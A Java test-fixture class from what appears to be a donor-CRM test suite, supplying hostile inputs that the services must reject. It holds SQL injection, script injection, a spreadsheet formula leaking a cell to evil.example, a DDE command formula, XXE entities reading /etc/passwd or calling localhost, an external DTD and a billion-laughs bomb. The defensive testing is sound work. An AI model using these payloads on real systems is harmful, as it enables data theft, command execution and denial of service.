package org.donorcrm.testing.badinput;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** The hostile values and documents the corpus is made of. */
public final class Hostile {

    public static final String SQL_INJECTION = "' OR 1=1 --";
    public static final String SCRIPT = "<script>alert(1)</script>";
    public static final String CSV_FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    public static final String CSV_FORMULA_DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
    /** Strings that no patterned field (ids, codes, IBANs, dates, periods) may accept. */
    public static final List<String> INJECTIONS = List.of(SQL_INJECTION, SCRIPT, CSV_FORMULA);

    public static final String THREE_DECIMALS = "12.345";
    public static final String THIRTY_DIGITS = "123456789012345678901234567890";
    public static final List<String> IMPOSSIBLE_DATES = List.of("2025-02-30", "31-12-2025", "2025-13-01");
    /** A Dutch IBAN with wrong check digits, one too short, one with a letter where digits belong. */
    public static final List<String> INVALID_IBANS = List.of("NL00ABNA0417164300", "NL91ABNA041716430",
            "NL91ABNA04171643OO");

    /** Nesting depth of the deep-nesting bodies (Jackson refuses more than 1,000 by default). */
    public static final int DEEP = 10_000;
    /** Size of the "several MB" bodies: under every service's body limit, so the service itself must refuse. */
    public static final int SEVERAL_MB = 5 * 1024 * 1024;
    public static final int LONG_STRING = 100_000;

    private Hostile() {
    }

    public static String repeat(char c, int times) {
        return String.valueOf(c).repeat(times);
    }

    /** {@code [[[…]]]}, {@value #DEEP} levels. */
    public static byte[] deepArrays() {
        return ("[".repeat(DEEP) + "]".repeat(DEEP)).getBytes(StandardCharsets.UTF_8);
    }

    /** {@code {"a":{"a":…1…}}}, {@value #DEEP} levels. */
    public static byte[] deepObjects() {
        return ("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)).getBytes(StandardCharsets.UTF_8);
    }

    // ---- XML (any endpoint consuming XML; CAMT.053 is the one there is) ----

    private static final String CAMT = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02";

    /**
     * A CAMT.053.001.02 statement of {@code account} with one credit of {@code amount} EUR, the statement id
     * {@code statementId} (put an entity reference there to test entity expansion), and {@code padding} as
     * additional statement information (for size).
     */
    public static String camt(String doctype, String account, String statementId, String amount, String padding) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype
                + "<Document xmlns=\"" + CAMT + "\"><BkToCstmrStmt>"
                + "<GrpHdr><MsgId>BAD-INPUT-1</MsgId><CreDtTm>2026-01-15T10:00:00</CreDtTm></GrpHdr>"
                + "<Stmt><Id>" + statementId + "</Id><ElctrncSeqNb>1</ElctrncSeqNb>"
                + "<CreDtTm>2026-01-15T10:00:00</CreDtTm>"
                + "<Acct><Id><IBAN>" + account + "</IBAN></Id><Ccy>EUR</Ccy></Acct>"
                + "<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy=\"EUR\">0.00</Amt>"
                + "<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-01-15</Dt></Dt></Bal>"
                + "<Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy=\"EUR\">" + amount + "</Amt>"
                + "<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-01-15</Dt></Dt></Bal>"
                + (padding.isEmpty() ? "" : "<AddtlStmtInf>" + padding + "</AddtlStmtInf>")
                + "<Ntry><NtryRef>BAD-1</NtryRef><Amt Ccy=\"EUR\">" + amount + "</Amt><CdtDbtInd>CRDT</CdtDbtInd>"
                + "<Sts>BOOK</Sts><BookgDt><Dt>2026-01-15</Dt></BookgDt><ValDt><Dt>2026-01-15</Dt></ValDt>"
                + "<AcctSvcrRef>BAD-INPUT-REF-1</AcctSvcrRef>"
                + "<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>RCDT</Cd><SubFmlyCd>ESCT</SubFmlyCd></Fmly></Domn></BkTxCd>"
                + "<NtryDtls><TxDtls><Refs><EndToEndId>BAD-E2E-1</EndToEndId></Refs>"
                + "<RltdPties><Dbtr><Nm>A Donor</Nm></Dbtr><DbtrAcct><Id><IBAN>NL02ABNA0123456789</IBAN></Id></DbtrAcct></RltdPties>"
                + "<RmtInf><Ustrd>gift</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>"
                + "</Stmt></BkToCstmrStmt></Document>\n";
    }

    /** An entity pointing at a local file, expanded into the statement id. */
    public static String xxeFile(String account) {
        return camt("<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n", account, "&xxe;",
                "10.00", "");
    }

    /** An entity pointing at a URL (server-side request forgery), expanded into the statement id. */
    public static String xxeHttp(String account) {
        return camt("<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/xxe\">]>\n", account, "&xxe;",
                "10.00", "");
    }

    /** An external DTD (parameter entity): the parser must not fetch it. */
    public static String externalDtd(String account) {
        return camt("<!DOCTYPE Document SYSTEM \"http://127.0.0.1:9/camt.dtd\">\n", account, "STMT-DTD", "10.00", "");
    }

    /** The billion laughs: ten levels of ten references, 10^9 "lol"s if expanded. */
    public static String billionLaughs(String account) {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE Document [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>\n");
        return camt(dtd.toString(), account, "&lol9;", "10.00", "");
    }

    /** A DOCTYPE with nothing in it: no DTD is allowed at all. */
    public static String harmlessDoctype(String account) {
        return camt("<!DOCTYPE Document>\n", account, "STMT-DOCTYPE", "10.00", "");
    }
}
